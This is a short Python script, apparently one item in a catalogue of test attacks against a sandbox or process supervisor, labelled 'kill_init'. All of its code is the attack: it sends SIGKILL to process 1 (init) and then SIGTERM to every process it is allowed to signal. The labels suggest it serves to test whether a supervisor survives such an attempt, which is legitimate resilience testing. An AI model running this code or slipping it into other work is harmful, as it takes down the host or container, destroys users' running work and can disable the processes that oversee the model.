# attack: kill_init
# category: kill_supervisor
# kind: process_kill
# describe: signal pid 1 and then every process it may signal
import os, signal
for pid in (1,):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as e:
        print(pid, e)
try:
    os.kill(-1, signal.SIGTERM)
except OSError as e:
    print(e)
